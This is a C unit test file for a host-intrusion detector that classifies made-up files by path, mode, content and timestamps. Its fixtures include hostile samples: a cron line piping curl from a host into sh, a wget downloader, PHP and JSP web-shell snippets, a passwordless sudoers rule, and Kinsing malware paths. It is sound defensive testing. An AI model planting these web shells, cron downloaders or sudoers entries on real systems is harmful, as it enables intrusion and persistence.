/* SPDX-License-Identifier: Apache-2.0 */
/* Signs of files: each predicate over made-up facts. */
#include "signs/files.h"

#include "test.h"

#include <sys/stat.h>

static struct buf seen; /* "id:level id:level" */

static void note(void *ctx, const struct sign *s, const struct finding *f)
{
	(void)ctx;
	CHECK_INT(buf_addf(&seen, "%s%s:%s", seen.n ? " " : "", s->id, sign_level_name(f->level)),
		  0);
}

static bool judged(const struct file_facts *f, const char *want)
{
	buf_clear(&seen);
	signs_judge_file(f, f->known, note, NULL);
	CHECK_INT(buf_addc(&seen, '\0'), 0);
	if (strcmp((const char *)seen.p, want) != 0)
		fprintf(stderr, "signs are \"%s\", not \"%s\"\n", (const char *)seen.p, want);
	return strcmp((const char *)seen.p, want) == 0;
}

enum { DAY = 86400, REF = 1700000000 };

/* A file that came after the start, with what it holds. */
static struct file_facts new_file(const char *path, unsigned mode, const char *content)
{
	return (struct file_facts){
		.known = FILE_FACT_INFO | FILE_FACT_BIRTH | FILE_FACT_CAPS | FILE_FACT_CONTENT,
		.path = bytes_str(path),
		.info = { .have = FILE_ATTRS,
			  .mode = S_IFREG | mode,
			  .size = strlen(content),
			  .mtime = { REF + DAY, 5 } },
		.mount = MOUNT_ROOT,
		.birth = BIRTH_NEW,
		.ref = REF * (int64_t)NS_PER_SEC,
		.now = (REF + 2 * (int64_t)DAY) * (int64_t)NS_PER_SEC,
		.place = file_place_of(bytes_str(path)),
		.content = bytes_str(content),
	};
}

static const struct {
	const char *path;
	unsigned mode;
	const char *content, *want, *old; /* OLD: the same in the image */
} cases[] = {
	{ "/usr/bin/tool", 0755,
	  "\x7f"
	  "ELF",
	  "file-program:low", "" },
	{ "/usr/bin/tool", 0755, "#!/bin/sh", "", "" },
	{ "/var/tmp/.ICEd-unix/a", 0644, "x", "file-kinsing:high", "file-kinsing:low" },
	{ "/etc/udev/rules.d/9.rules", 0644, "RUN+=\"/tmp/x\"", "persist-trigger:high", "" },
	{ "/etc/update-motd.d/9", 0755, "#!/bin/sh", "persist-trigger:low", "" },
	{ "/tmp/zzz", 0755,
	  "\x7f"
	  "ELF",
	  "file-kinsing:high file-dropped:medium", "file-kinsing:low" },
	{ "/var/tmp/kinsing123", 0644, "x", "file-kinsing:high", "file-kinsing:low" },
	{ "/tmp/x", 0755, "#!/bin/sh", "file-dropped:medium", "" },
	{ "/tmp/x", 0755, "notes", "", "" },
	{ "/tmp/x", 0644, "#!/bin/sh", "", "" },
	{ "/home/u/.local/bin/x", 0755, "#!", "file-dropped:low", "" },
	{ "/usr/lib/.../x", 0755, "#!", "file-dropped:medium", "" },
	{ "/usr/bin/su2", 04755,
	  "\x7f"
	  "ELF",
	  "file-setid:high", "" },
	{ "/usr/bin/su2", 02755,
	  "\x7f"
	  "ELF",
	  "file-setid:medium", "" },
	{ "/usr/bin/su2", 02644, "x", "", "" },
	{ "/etc/cron.d/x", 0644, "* * * * * root /usr/bin/true", "persist-cron:medium", "" },
	{ "/etc/cron.d/x", 0644, "* * * * * root curl -s http://x|sh", "persist-cron:high", "" },
	{ "/etc/cron.d/x", 0644, "", "", "" },
	{ "/var/spool/cron/crontabs/root", 0600, "* * * * * wget -q x", "persist-cron:high", "" },
	{ "/etc/systemd/system/bot.service", 0644, "ExecStart=/etc/kinsing", "persist-boot:high",
	  "" },
	{ "/etc/rc.local", 0755, "#!/bin/sh", "persist-boot:medium", "" },
	{ "/root/.bashrc", 0644, "alias ls=ls", "persist-profile:low", "" },
	{ "/root/.bashrc", 0644, "nohup /dev/shm/.x &", "persist-profile:high", "" },
	{ "/root/.ssh/authorized_keys", 0600, "ssh-ed25519 A", "persist-ssh:medium", "" },
	{ "/etc/sudoers.d/x", 0440, "u ALL=(ALL) NOPASSWD:ALL", "persist-auth:medium", "" },
	{ "/etc/pam.d/sshd", 0644, "auth", "persist-auth:medium", "" },
	{ "/var/www/a.php", 0644, "<?php eval($_POST['x']);", "web-shell:high", "" },
	{ "/var/www/a.php", 0644, "<?php echo $_POST['x'];", "", "" },
	{ "/var/www/a.jsp", 0644, "new ProcessBuilder(request.getParameter(\"c\"))",
	  "web-shell:high", "" },
	{ "/var/www/a.txt", 0644, "eval($_POST['x'])", "", "" },
};

static void test_new(void)
{
	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
		struct file_facts f = new_file(cases[i].path, cases[i].mode, cases[i].content);

		CHECK(judged(&f, cases[i].want));
		f.birth = BIRTH_OLD;
		CHECK(judged(&f, cases[i].old));
		f.known = 0;
		CHECK(judged(&f, ""));
	}
	OK("what came after the start, by place, mode and content; the image's own is none");
}

static void test_others(void)
{
	struct file_facts f = new_file("/usr/bin/x", 0755,
				       "\x7f"
				       "ELF");

	f.has_caps = true;
	f.caps = 1 << 12;
	CHECK(judged(&f, "file-caps:high"));
	f.known &= ~(unsigned)FILE_FACT_CAPS;
	CHECK(judged(&f, ""));
	f.info.attributes = 0x10;
	CHECK(judged(&f, "file-immutable:high"));
	f.birth = BIRTH_OLD;
	CHECK(judged(&f, "file-immutable:medium"));
	f.mount = MOUNT_VOLUME;
	CHECK(judged(&f, "file-immutable:low"));
	f.info.have = 0;
	CHECK(judged(&f, ""));
	f = new_file("/usr/bin/x", 0755,
		     "\x7f"
		     "ELF");
	f.birth = BIRTH_BELOW;
	CHECK(judged(&f, "file-below:high"));
	/* Memory is no image's: what lies there is new. */
	f = new_file("/dev/shm/x", 0755,
		     "\x7f"
		     "ELF");
	f.known &= ~(unsigned)FILE_FACT_BIRTH;
	f.birth = BIRTH_UNKNOWN;
	f.mount = MOUNT_MEMORY;
	CHECK(judged(&f, "file-dropped:medium"));
	f.mount = MOUNT_VOLUME;
	CHECK(judged(&f, ""));
	OK("capabilities, attributes, a changed lower layer, memory file systems");
}

static void test_times(void)
{
	struct file_facts f = new_file("/usr/bin/x", 0755,
				       "\x7f"
				       "ELF");

	f.info.mtime.sec = REF - 2 * DAY;
	CHECK(judged(&f, "file-program:low")); /* with nanoseconds: a copy that kept its time */
	f.info.mtime.nsec = 0;
	CHECK(judged(&f, "file-program:low timestomp:low"));
	f.info.mtime.sec = REF - 10;
	CHECK(judged(&f, "file-program:low"));
	f.info.mtime.sec = REF + 10 * (int64_t)DAY;
	CHECK(judged(&f, "file-program:low timestomp:low"));
	f.info.mtime.sec = INT64_MAX;
	CHECK(judged(&f, "file-program:low timestomp:low"));
	f.info.mtime.sec = INT64_MIN;
	CHECK(judged(&f, "file-program:low timestomp:low"));
	f.ref = 0;
	CHECK(judged(&f, "file-program:low"));
	f = new_file("/usr/bin/x", 0755,
		     "\x7f"
		     "ELF");
	f.info.mtime = (struct file_stamp){ REF - 2 * DAY, 5 };
	f.dressed = true;
	CHECK(judged(&f, "file-program:low timestomp:medium"));
	f.dressed = false;
	f.info.mtime = f.info.ctime = (struct file_stamp){ REF + DAY, 0 };
	CHECK(judged(&f, "file-program:low timestomp:low"));
	/* On a volume times say less. */
	f.by_ctime = true;
	CHECK(judged(&f, "file-program:low"));
	f = new_file("/data/a.php", 0644, "<?php eval($_POST['x']);");
	f.by_ctime = true;
	CHECK(judged(&f, "web-shell:medium"));
	f = new_file("/tmp/.x", 0755,
		     "\x7f"
		     "ELF");
	f.info.mtime = (struct file_stamp){ 1000000000, 0 };
	CHECK(judged(&f, "file-dropped:medium timestomp:medium"));
	f.info.mode = S_IFDIR | 0755;
	CHECK(judged(&f, ""));
	OK("times that were set: back without nanoseconds, or in the future");
}

static void test_places(void)
{
	CHECK_INT(file_place_of(bytes_str("/etc/crontab")), PLACE_CRON);
	CHECK_INT(file_place_of(bytes_str("/srv/etc/cron.d/x")), PLACE_NONE);
	CHECK_INT(file_place_of(bytes_of(NULL, 0)), PLACE_NONE);
	CHECK_INT(file_place_of(bytes_str("/x.php\n")), PLACE_NONE);
	OK("places by path");
}

int main(void)
{
	test_new();
	test_others();
	test_times();
	test_places();
	buf_done(&seen);
	TEST_END();
}
